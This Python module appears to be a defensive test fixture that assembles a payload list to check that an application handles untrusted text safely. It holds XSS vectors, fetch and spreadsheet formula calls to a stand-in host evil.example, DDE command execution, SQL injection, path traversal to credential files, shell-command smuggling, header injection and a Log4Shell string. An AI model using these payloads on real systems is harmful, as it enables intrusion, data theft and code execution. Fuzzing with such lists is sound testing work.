"""Texts that would come alive if somebody forgot what they are: markup, charts, markdown, formulas, SQL, paths, headers, logs."""

_RUN = ("window.hacked=1", "alert(1)", "fetch('//evil.example')", "document.title='hacked'")
_HTML = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<body onload={}>", "<iframe src=javascript:{}>", "<a href='javascript:{}'>x</a>",
    "'\"><script>{}</script>", "</textarea><script>{}</script>", "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<math><mtext></p><img src=x onerror={}>",
    "&lt;script&gt;{}&lt;/script&gt;", "<scr<script>ipt>{}</script>", "<style>@import'//evil.example';</style>{}", "<object data=javascript:{}>", "<marquee onstart={}>",
    "<template><script>{}</script></template>", "<!--><img src=x onerror={}>-->", "<video><source onerror={}>",
]  # fmt: skip
_PLOTLY = ["<b>%{{x}}</b><extra>{}</extra>", "<a href=\"javascript:{}\">x</a><br>", "%{{customdata[0]}}{}", "<span style=\"background:url(javascript:{})\">x</span>", "%{{meta.x}}<sup>{}</sup>"]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:{})", "![x](//evil.example/{})", "**{}**", "`{}`", "# {}", "$$\\href{{javascript:{}}}{{x}}$$", "$\\url{{{}}}$", ":red[{}]", ":material/{}:", "<{}>", "[x]: javascript:{}",
    "- [ ] {}", "| a | {} |", "~~{}~~", ":streamlit: {}", "[{}](data:text/html;base64,PHNjcmlwdD4=)", "> {}",
]  # fmt: skip
_FORMULA = [
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"//evil.example\",\"x\")", "=WEBSERVICE(\"//evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1",
    "=IMPORTXML(\"//evil.example\",\"a\")", "=DDE(\"cmd\",\"/c calc\",\"x\")", "+cmd|'/c calc'!A0", "-cmd|'/c calc'!A0", "@cmd|'/c calc'!A0", "'=1+1", "\"=1+1", ";=1+1", "|=1+1", "%0A=1+1", "=\"a\"&\"b\"",
    "{=SUM(1)}", "=A1:A9", "=1,2", "=1;2", "=1\t2", "==1", "=-1",
]  # fmt: skip
_SQL = [
    "'; DROP TABLE version; --", "' OR '1'='1", "'; DELETE FROM entry; --", "\"; DROP TABLE plan; --", "1; ATTACH 'x' AS y", "') UNION SELECT * FROM entry --", "$1", "$plan_year", "?", "%s", "{0}", "{year}", "''", "'''",
    "\\'", "\\", "\0x", "/* x */", "-- x", "'||(SELECT current_database())||'", "'; COPY version TO '/tmp/x'; --", "'; INSTALL httpfs; --", "'; PRAGMA database_list; --", "read_csv('/etc/passwd')", "getvariable('as_of')",
    "'; SET VARIABLE as_of = 1; --", "NULL", "true", "1e999", "NaN", "[1,2]", "{\"a\":1}",
]  # fmt: skip
_PATH = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\x", "//server/share", "\\\\server\\share", "file:///etc/passwd", "CON", "NUL.xlsx", "a/../../b", "%2e%2e%2f", "..%c0%af", "~root", "~/.ssh/id_rsa",
    ".", "..", "./.git/config", "a\0b", "x.xlsx/../../y", "|ls", "`ls`", "$(ls)", "; ls", "&& ls", "-rf", "--help", "a b", "‮xslx.exe", "x" * 300, "http://evil.example/x.xlsx",
]  # fmt: skip
_HEADER = [
    "x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "x%0d%0aSet-Cookie:a=b", "\"; filename=evil.exe", "x\r\n\r\n<script>window.hacked=1</script>", "x; charset=utf-7", "=?utf-8?B?eA==?=", "x\x0b\x0cy",
    "x\u2028y", "x\u2029y", "x\u0085y", "x\ufeffy", "\u202ex", "x\u200by", "x\u00ady",
]  # fmt: skip
_LOG = [
    "x\n2026-01-01 ERROR all is lost", "x\r{\"seq\": 1}", "\x1b[2J\x1b[31mx", "\x1b]0;x\x07", "${jndi:ldap://evil.example/x}", "%(asctime)s", "%s%s%s%n", "{}", "{actor}", "x\x08\x08y", "\x07", "\x9b31mx",
    "x\\nfake", "x\tfake", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "${7*7}", "@@version", "\ud7ff x", "𝔘𝔫𝔦", "e\u0301\u0323\u0300", "ﷺ" * 20, "🏳️‍🌈", "\u0e47" * 30,
]  # fmt: skip

PAYLOADS = [template.format(run) for template in _HTML for run in _RUN] + [template.format(run) for template in (*_PLOTLY, *_MARKDOWN) for run in _RUN]  # fmt: skip
PAYLOADS += [*_FORMULA, *_SQL, *_PATH, *_HEADER, *_LOG]
PAYLOADS = list(dict.fromkeys(PAYLOADS))
